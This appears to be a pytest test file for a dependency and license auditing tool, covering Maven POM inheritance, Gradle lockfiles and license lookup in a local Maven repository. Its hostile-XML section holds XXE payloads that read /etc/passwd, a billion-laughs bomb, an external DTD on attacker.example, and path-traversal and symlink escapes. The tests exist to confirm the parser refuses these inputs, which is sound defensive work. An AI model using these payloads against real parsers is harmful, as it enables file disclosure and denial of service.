# SPDX-FileCopyrightText: 2026 The commonscheck authors
# SPDX-License-Identifier: GPL-3.0-or-later
# ruff: noqa: E501
"""The Java ecosystem: pom.xml, Gradle lockfiles, licenses from a local Maven repository, hostile XML.

Maven is installed here (mvn 3.8.7) but `mvn -o help:effective-pom` would need maven-help-plugin,
which the local repository does not hold, so it would download: it is not used. Gradle is not
installed. The fixtures are written in the shapes the tools write, following the POM reference
(https://maven.apache.org/pom.html: <parent> with <relativePath>, <dependencyManagement>, BOM imports
with <scope>import</scope>, <optional>) and Gradle's dependency-locking chapter
(https://docs.gradle.org/current/userguide/dependency_locking.html: the header comment, one
`group:artifact:version=configurations` line a module, sorted, and a closing `empty=` line).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from commonscheck.audit.deps import DepsOptions, collect
from commonscheck.audit.sources.base import MAX_MANIFEST_BYTES, SourceError
from commonscheck.audit.sources.maven import GradleLockSource, PomSource, licenses_from_m2
from commonscheck.model import Package
from conftest import write_tree

PARENT = """<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0"
         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <groupId>org.example.shop</groupId>
  <artifactId>shop-parent</artifactId>
  <version>2.3.0</version>
  <packaging>pom</packaging>

  <licenses>
    <license>
      <name>GNU General Public License v3.0 or later</name>
      <url>https://www.gnu.org/licenses/gpl-3.0.txt</url>
    </license>
  </licenses>

  <modules>
    <module>core</module>
  </modules>

  <properties>
    <project.build.sourceEncoding>UTF-8</project.build.sourceEncoding>
    <jackson.version>2.15.2</jackson.version>
    <slf4j.version>2.0.9</slf4j.version>
  </properties>

  <dependencyManagement>
    <dependencies>
      <dependency>
        <groupId>com.fasterxml.jackson</groupId>
        <artifactId>jackson-bom</artifactId>
        <version>${jackson.version}</version>
        <type>pom</type>
        <scope>import</scope>
      </dependency>
      <dependency>
        <groupId>org.slf4j</groupId>
        <artifactId>slf4j-api</artifactId>
        <version>${slf4j.version}</version>
      </dependency>
      <dependency>
        <groupId>org.junit.jupiter</groupId>
        <artifactId>junit-jupiter</artifactId>
        <version>5.10.0</version>
        <scope>test</scope>
      </dependency>
      <dependency>
        <groupId>commons-io</groupId>
        <artifactId>commons-io</artifactId>
        <version>2.13.0</version>
      </dependency>
    </dependencies>
  </dependencyManagement>

  <dependencies>
    <dependency>
      <groupId>org.projectlombok</groupId>
      <artifactId>lombok</artifactId>
      <version>1.18.30</version>
      <scope>provided</scope>
    </dependency>
  </dependencies>
</project>
"""

CHILD = """<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0"
         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
         xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">
  <modelVersion>4.0.0</modelVersion>
  <parent>
    <groupId>org.example.shop</groupId>
    <artifactId>shop-parent</artifactId>
    <version>2.3.0</version>
  </parent>
  <artifactId>shop-core</artifactId>

  <properties>
    <guava.version>32.1.2-jre</guava.version>
  </properties>

  <dependencies>
    <dependency>
      <groupId>org.slf4j</groupId>
      <artifactId>slf4j-api</artifactId>
    </dependency>
    <dependency>
      <groupId>com.google.guava</groupId>
      <artifactId>guava</artifactId>
      <version>${guava.version}</version>
    </dependency>
    <dependency>
      <groupId>com.fasterxml.jackson.core</groupId>
      <artifactId>jackson-databind</artifactId>
    </dependency>
    <dependency>
      <groupId>${project.groupId}</groupId>
      <artifactId>shop-api</artifactId>
      <version>${project.version}</version>
    </dependency>
    <dependency>
      <groupId>org.postgresql</groupId>
      <artifactId>postgresql</artifactId>
      <version>42.6.0</version>
      <scope>runtime</scope>
      <optional>true</optional>
    </dependency>
    <dependency>
      <groupId>jakarta.servlet</groupId>
      <artifactId>jakarta.servlet-api</artifactId>
      <version>6.0.0</version>
      <scope>provided</scope>
    </dependency>
    <dependency>
      <groupId>org.junit.jupiter</groupId>
      <artifactId>junit-jupiter</artifactId>
    </dependency>
    <dependency>
      <groupId>org.example</groupId>
      <artifactId>internal-sdk</artifactId>
      <version>${sdk.version}</version>
    </dependency>
    <dependency>
      <groupId>org.apache.commons</groupId>
      <artifactId>commons-lang3</artifactId>
      <version>[3.12,4.0)</version>
    </dependency>
    <dependency>
      <groupId>io.netty</groupId>
      <artifactId>netty-transport-native-epoll</artifactId>
      <version>4.1.100.Final</version>
      <classifier>linux-x86_64</classifier>
    </dependency>
  </dependencies>
</project>
"""


def line_of(text: str, needle: str, occurrence: int = 1) -> int:
    """1-based line of the n-th line containing `needle`."""
    hits = [i for i, line in enumerate(text.splitlines(), 1) if needle in line]
    return hits[occurrence - 1]


def by_name(packages: list[Package]) -> dict[str, Package]:
    return {p.name: p for p in packages}


def tree_of(files: dict[str, str]) -> Callable[[str], bytes | None]:
    def load(path: str) -> bytes | None:
        return files[path].encode() if path in files else None

    return load


def test_child_pom_inherits_properties_management_and_coordinates_from_its_parent_in_the_tree() -> None:
    files = {"pom.xml": PARENT, "core/pom.xml": CHILD}
    got = by_name(PomSource().read("core/pom.xml", CHILD.encode(), tree=tree_of(files)))
    # managed version through a parent property
    assert got["org.slf4j:slf4j-api"].version == "2.0.9"
    assert got["org.slf4j:slf4j-api"].scope == "runtime"
    assert got["org.slf4j:slf4j-api"].direct is True
    assert got["org.slf4j:slf4j-api"].purl == "pkg:maven/org.slf4j/slf4j-api@2.0.9"
    # the child's own property
    assert got["com.google.guava:guava"].version == "32.1.2-jre"
    # from an imported BOM we do not have: unknown, not guessed
    assert got["com.fasterxml.jackson.core:jackson-databind"].version is None
    # ${project.groupId} / ${project.version} come from <parent> when the child does not set them
    assert got["org.example.shop:shop-api"].version == "2.3.0"
    assert got["org.postgresql:postgresql"].scope == "optional"
    assert got["jakarta.servlet:jakarta.servlet-api"].scope == "build"
    # scope from dependencyManagement
    assert got["org.junit.jupiter:junit-jupiter"].scope == "dev"
    assert got["org.junit.jupiter:junit-jupiter"].version == "5.10.0"
    # a property nobody defines, and a version range: no version
    assert got["org.example:internal-sdk"].version is None
    assert got["org.apache.commons:commons-lang3"].version is None
    netty = got["io.netty:netty-transport-native-epoll"]
    assert (
        netty.purl == "pkg:maven/io.netty/netty-transport-native-epoll@4.1.100.Final?classifier=linux-x86_64"
    )
    # managed-only entries, the BOM import and the parent's own licenses are no dependencies;
    # the parent's own <dependencies> are not this file's (the parent's pom.xml lists them)
    assert "commons-io:commons-io" not in got
    assert "com.fasterxml.jackson:jackson-bom" not in got
    assert "org.projectlombok:lombok" not in got
    assert len(got) == 10
    assert got["com.google.guava:guava"].source == f"core/pom.xml:{line_of(CHILD, '<dependency>', 2)}"


def test_parent_pom_alone_lists_its_own_dependencies_not_its_managed_ones() -> None:
    got = by_name(PomSource().read("pom.xml", PARENT.encode()))
    assert set(got) == {"org.projectlombok:lombok"}
    assert got["org.projectlombok:lombok"].scope == "build"
    assert got["org.projectlombok:lombok"].declared is None


def test_parent_outside_the_tree_leaves_what_it_would_supply_unknown() -> None:
    pom = """<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  <parent>
    <groupId>org.springframework.boot</groupId>
    <artifactId>spring-boot-starter-parent</artifactId>
    <version>3.1.4</version>
    <relativePath/> <!-- lookup parent from repository -->
  </parent>
  <groupId>com.example</groupId>
  <artifactId>demo</artifactId>
  <version>0.0.1-SNAPSHOT</version>
  <dependencies>
    <dependency>
      <groupId>org.springframework.boot</groupId>
      <artifactId>spring-boot-starter-web</artifactId>
    </dependency>
    <dependency>
      <groupId>org.springframework.boot</groupId>
      <artifactId>spring-boot-starter-test</artifactId>
      <scope>test</scope>
    </dependency>
    <dependency>
      <groupId>com.example</groupId>
      <artifactId>demo-model</artifactId>
      <version>${project.version}</version>
    </dependency>
    <dependency>
      <groupId>com.example</groupId>
      <artifactId>demo-parent-versioned</artifactId>
      <version>${project.parent.version}</version>
    </dependency>
  </dependencies>
</project>
"""
    # even with a tree to look in, <relativePath/> says the parent is not there
    got = by_name(PomSource().read("pom.xml", pom.encode(), tree=lambda p: None))
    assert got["org.springframework.boot:spring-boot-starter-web"].version is None
    assert got["org.springframework.boot:spring-boot-starter-test"].scope == "dev"
    assert got["com.example:demo-model"].version == "0.0.1-SNAPSHOT"
    assert got["com.example:demo-parent-versioned"].version == "3.1.4"


def test_a_different_project_at_relative_path_is_not_the_parent() -> None:
    files = {"pom.xml": PARENT.replace("shop-parent", "something-else"), "core/pom.xml": CHILD}
    got = by_name(PomSource().read("core/pom.xml", CHILD.encode(), tree=tree_of(files)))
    assert got["org.slf4j:slf4j-api"].version is None  # the management lived in the real parent
    assert got["com.google.guava:guava"].version == "32.1.2-jre"


def test_parent_cycle_and_property_cycles_and_property_bombs_end() -> None:
    a = """<project><modelVersion>4.0.0</modelVersion><parent><groupId>g</groupId><artifactId>b</artifactId><version>1</version><relativePath>b/pom.xml</relativePath></parent><artifactId>a</artifactId></project>"""
    b = """<project><modelVersion>4.0.0</modelVersion><parent><groupId>g</groupId><artifactId>a</artifactId><version>1</version><relativePath>../pom.xml</relativePath></parent><artifactId>b</artifactId></project>"""
    files = {"pom.xml": a, "b/pom.xml": b}
    with pytest.raises(SourceError, match="cycle"):
        PomSource().read("pom.xml", a.encode(), tree=tree_of(files))
    props = "".join(
        f"<p{i}>${{p{i - 1}}}${{p{i - 1}}}${{p{i - 1}}}${{p{i - 1}}}</p{i}>" for i in range(1, 30)
    )
    bomb = f"""<project><groupId>g</groupId><artifactId>x</artifactId><version>1</version>
<properties><p0>lol</p0>{props}<c1>${{c2}}</c1><c2>${{c1}}</c2></properties>
<dependencies>
<dependency><groupId>g</groupId><artifactId>bomb</artifactId><version>${{p29}}</version></dependency>
<dependency><groupId>g</groupId><artifactId>cycle</artifactId><version>${{c1}}</version></dependency>
<dependency><groupId>g</groupId><artifactId>small</artifactId><version>${{p2}}</version></dependency>
</dependencies></project>"""
    got = by_name(PomSource().read("pom.xml", bomb.encode()))
    assert got["g:bomb"].version is None
    assert got["g:cycle"].version is None
    assert got["g:small"].version == "lol" * 16


def test_a_parent_path_leading_out_of_the_tree_is_not_followed() -> None:
    pom = """<project><parent><groupId>g</groupId><artifactId>p</artifactId><version>1</version><relativePath>../../etc/pom.xml</relativePath></parent><artifactId>a</artifactId>
<dependencies><dependency><groupId>g</groupId><artifactId>d</artifactId><version>${project.version}</version></dependency></dependencies></project>"""
    asked: list[str] = []

    def load(path: str) -> bytes | None:
        asked.append(path)
        return None

    got = PomSource().read("pom.xml", pom.encode(), tree=load)
    assert asked == []
    assert got[0].version == "1"  # <parent><version> is known without reading the parent


# ---------------------------------------------------------------- hostile and broken XML

XXE = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE project [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
]>
<project>
  <groupId>evil</groupId><artifactId>x</artifactId><version>1</version>
  <dependencies><dependency><groupId>g</groupId><artifactId>&xxe;</artifactId><version>1</version></dependency></dependencies>
</project>
"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<project><artifactId>&lol9;</artifactId></project>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE project SYSTEM "http://attacker.example/evil.dtd">
<project><artifactId>x</artifactId></project>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE project [<!ENTITY % remote SYSTEM "file:///etc/passwd"> %remote;]>
<project/>
"""


@pytest.mark.parametrize("doc", [XXE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_hostile_xml_is_refused_in_one_line(doc: str) -> None:
    with pytest.raises(SourceError) as info:
        PomSource().read("pom.xml", doc.encode())
    message = str(info.value)
    assert message.startswith("unsafe XML refused: ")
    assert "\n" not in message
    assert "root:" not in message  # nothing of /etc/passwd leaks into the message


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (CHILD.encode()[: len(CHILD) // 2], "invalid XML"),
        (b"<project><dependencies><dependency></project>", "invalid XML"),
        (os.urandom(2048).replace(b"<", b"") + b"\x00\xff", "invalid XML"),
        (b"", "invalid XML"),
        (b"<settings><localRepository>/x</localRepository></settings>", "not a Maven POM"),
        (
            b"<project><dependencies><dependency><artifactId>x</artifactId></dependency></dependencies></project>",
            "without groupId",
        ),
    ],
)
def test_broken_poms_are_one_line_errors(data: bytes, expected: str) -> None:
    with pytest.raises(SourceError, match=expected) as info:
        PomSource().read("pom.xml", data)
    assert "\n" not in str(info.value)


def test_oversize_pom_is_refused_unread() -> None:
    with pytest.raises(SourceError, match="larger than"):
        PomSource().read("pom.xml", b" " * (MAX_MANIFEST_BYTES + 1))


def test_collect_reads_the_good_files_and_reports_the_hostile_one(tmp_path: Path) -> None:
    write_tree(
        tmp_path,
        {
            "pom.xml": PARENT,
            "core/pom.xml": CHILD,
            "evil/pom.xml": XXE,
            "app/gradle.lockfile": GRADLE_LOCK,
        },
    )
    report = collect(tmp_path, DepsOptions(), sources=[PomSource(), GradleLockSource()])
    assert [(e.path, e.message.split(":")[0]) for e in report.errors] == [
        ("evil/pom.xml", "unsafe XML refused")
    ]
    names = {p.name for p in report.packages}
    assert {"org.projectlombok:lombok", "com.google.guava:guava", "org.slf4j:slf4j-api"} <= names
    assert "com.squareup.okhttp3:okhttp" in names
    assert "pom.xml" in report.manifests and "app/gradle.lockfile" in report.manifests
    assert all(p.ecosystem == "maven" for p in report.packages)


# ---------------------------------------------------------------- Gradle

GRADLE_LOCK = """# This is a Gradle generated file for dependency locking.
# Manual edits can break the build and are not advised.
# This file is expected to be part of source control.
com.google.code.gson:gson:2.10.1=compileClasspath,runtimeClasspath
com.google.errorprone:error_prone_annotations:2.18.0=compileClasspath
com.squareup.okhttp3:okhttp:4.11.0=runtimeClasspath,testRuntimeClasspath
com.squareup.okio:okio:3.2.0=runtimeClasspath,testRuntimeClasspath
junit:junit:4.13.2=testCompileClasspath,testRuntimeClasspath
org.hamcrest:hamcrest-core:1.3=testCompileClasspath,testRuntimeClasspath
org.immutables:value:2.9.3=annotationProcessor
empty=testAnnotationProcessor
"""


def test_gradle_lockfile_scopes_from_configurations() -> None:
    got = by_name(GradleLockSource().read("app/gradle.lockfile", GRADLE_LOCK.encode()))
    assert len(got) == 7
    assert got["com.google.code.gson:gson"].scope == "runtime"
    assert got["com.google.errorprone:error_prone_annotations"].scope == "runtime"
    assert got["com.squareup.okhttp3:okhttp"].scope == "runtime"
    assert got["junit:junit"].scope == "dev"
    assert got["org.immutables:value"].scope == "build"
    assert got["junit:junit"].purl == "pkg:maven/junit/junit@4.13.2"
    assert got["junit:junit"].source == f"app/gradle.lockfile:{line_of(GRADLE_LOCK, 'junit:junit')}"
    assert not any(p.direct for p in got.values())


def test_gradle_buildscript_and_legacy_lockfiles() -> None:
    src = GradleLockSource()
    assert src.handles("buildscript-gradle.lockfile")
    assert src.handles("gradle/dependency-locks/compileClasspath.lockfile")
    assert not src.handles("yarn.lock")
    build = src.read(
        "buildscript-gradle.lockfile", b"org.jetbrains.kotlin:kotlin-gradle-plugin:1.9.10=classpath\nempty=\n"
    )
    assert [(p.name, p.scope) for p in build] == [("org.jetbrains.kotlin:kotlin-gradle-plugin", "build")]
    legacy = src.read(
        "gradle/dependency-locks/testRuntimeClasspath.lockfile",
        b"# This is a Gradle generated file for dependency locking.\njunit:junit:4.12\n",
    )
    assert [(p.name, p.version, p.scope) for p in legacy] == [("junit:junit", "4.12", "dev")]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"# This is a Gradle generated file for dependency locking.\n", "not a Gradle lockfile"),
        (b"com.google.code.gson:gson:2.10.1\n", "no '=configurations'"),
        (b"com.google.code.gson:2.10.1=compileClasspath\nempty=\n", "not group:artifact:version"),
        (b"\x00\x01binary", "binary"),
        (b"\xff\xfe junk", "not UTF-8"),
    ],
)
def test_broken_gradle_lockfiles(data: bytes, expected: str) -> None:
    with pytest.raises(SourceError, match=expected):
        GradleLockSource().read("gradle.lockfile", data)


# ---------------------------------------------------------------- --m2


def pom_with_licenses(group: str, artifact: str, version: str, licenses: str, parent: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<project xmlns="http://maven.apache.org/POM/4.0.0">
  <modelVersion>4.0.0</modelVersion>
  {parent}
  <groupId>{group}</groupId>
  <artifactId>{artifact}</artifactId>
  <version>{version}</version>
  {licenses}
</project>
"""


APACHE = """<licenses><license><name>The Apache Software License, Version 2.0</name><url>https://www.apache.org/licenses/LICENSE-2.0.txt</url><distribution>repo</distribution></license></licenses>"""
# The shape of org.rocksdb:rocksdbjni's POM: two <license> entries, the second a name our table of
# spellings does not know (so the whole declaration stays unknown, raw kept).
DUAL = """<licenses>
    <license><name>Apache License 2.0</name><url>http://www.apache.org/licenses/LICENSE-2.0.html</url><distribution>repo</distribution></license>
    <license><name>GNU General Public License, version 2</name><url>http://www.gnu.org/licenses/gpl-2.0.html</url><distribution>repo</distribution></license>
  </licenses>"""


# Two names the table knows, in the shape of logback's dual EPL/LGPL declaration.
DUAL_KNOWN = """<licenses>
    <license><name>Eclipse Public License - v 1.0</name><url>http://www.eclipse.org/legal/epl-v10.html</url></license>
    <license><name>GNU Lesser General Public License v2.1 only</name><url>http://www.gnu.org/licenses/old-licenses/lgpl-2.1.html</url></license>
  </licenses>"""


def m2_pom(m2: Path, group: str, artifact: str, version: str, text: str) -> Path:
    folder = m2.joinpath(*group.split("."), artifact, version)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{artifact}-{version}.pom"
    path.write_text(text, encoding="utf-8")
    return path


def maven(name: str, version: str | None) -> Package:
    return Package("maven", name, version, None, "runtime", True, None, None, "pom.xml:1")


def test_licenses_from_m2(tmp_path: Path) -> None:
    m2 = tmp_path / "m2" / "repository"
    m2_pom(
        m2,
        "com.google.guava",
        "guava",
        "32.1.2-jre",
        pom_with_licenses("com.google.guava", "guava", "32.1.2-jre", APACHE),
    )
    m2_pom(
        m2,
        "org.rocksdb",
        "rocksdbjni",
        "7.2.2",
        pom_with_licenses("org.rocksdb", "rocksdbjni", "7.2.2", DUAL),
    )
    m2_pom(
        m2,
        "ch.qos.logback",
        "logback-core",
        "1.4.11",
        pom_with_licenses("ch.qos.logback", "logback-core", "1.4.11", DUAL_KNOWN),
    )
    # licenses declared only in the parent POM (as Apache Commons artifacts do)
    m2_pom(
        m2,
        "org.apache.commons",
        "commons-parent",
        "58",
        pom_with_licenses("org.apache.commons", "commons-parent", "58", APACHE),
    )
    parent = "<parent><groupId>org.apache.commons</groupId><artifactId>commons-parent</artifactId><version>58</version></parent>"
    m2_pom(
        m2,
        "org.apache.commons",
        "commons-lang3",
        "3.13.0",
        pom_with_licenses("org.apache.commons", "commons-lang3", "3.13.0", "", parent),
    )
    m2_pom(
        m2,
        "com.acme",
        "odd",
        "1.0",
        pom_with_licenses(
            "com.acme",
            "odd",
            "1.0",
            "<licenses><license><name>ACME Internal Use Only</name></license></licenses>",
        ),
    )
    evil = m2_pom(m2, "com.evil", "xxe", "1.0", XXE)
    outside = tmp_path / "outside.pom"
    outside.write_text(pom_with_licenses("x", "y", "1", APACHE))
    (m2 / "com" / "link" / "y" / "1").mkdir(parents=True)
    (m2 / "com" / "link" / "y" / "1" / "y-1.pom").symlink_to(outside)
    packages = [
        maven("com.google.guava:guava", "32.1.2-jre"),
        maven("org.rocksdb:rocksdbjni", "7.2.2"),
        maven("ch.qos.logback:logback-core", "1.4.11"),
        maven("org.apache.commons:commons-lang3", "3.13.0"),
        maven("com.acme:odd", "1.0"),
        maven("com.evil:xxe", "1.0"),
        maven("com.link:y", "1"),
        maven("org.absent:absent", "1.0"),
        maven("org.slf4j:slf4j-api", None),
        Package("npm", "left-pad", "1.3.0", None, "runtime", True, None, None, "package.json"),
    ]
    out, errors = licenses_from_m2(m2, packages)
    got = {p.name: p for p in out}
    assert len(out) == len(packages)
    assert got["com.google.guava:guava"].declared == "Apache-2.0"
    assert got["com.google.guava:guava"].declared_raw == "The Apache Software License, Version 2.0"
    # several <license> entries are a choice (the POM model's own words, see maven.py)
    assert got["ch.qos.logback:logback-core"].declared == "EPL-1.0 OR LGPL-2.1-only"
    assert got["org.rocksdb:rocksdbjni"].declared is None
    assert (
        got["org.rocksdb:rocksdbjni"].declared_raw
        == "Apache License 2.0 OR GNU General Public License, version 2"
    )
    assert got["org.apache.commons:commons-lang3"].declared == "Apache-2.0"
    assert got["com.acme:odd"].declared is None
    assert got["com.acme:odd"].declared_raw == "ACME Internal Use Only"
    assert got["com.evil:xxe"].declared is None
    assert got["com.link:y"].declared is None  # a symlink out of the repository is not followed
    assert got["org.absent:absent"] == packages[7]
    assert got["left-pad"] == packages[-1]
    assert [(e.path, e.message.split(":")[0]) for e in errors] == [(str(evil), "unsafe XML refused")]


def test_m2_that_is_not_a_folder(tmp_path: Path) -> None:
    packages = [maven("a:b", "1")]
    out, errors = licenses_from_m2(tmp_path / "nope", packages)
    assert out == packages
    assert errors[0].message == "not a folder"
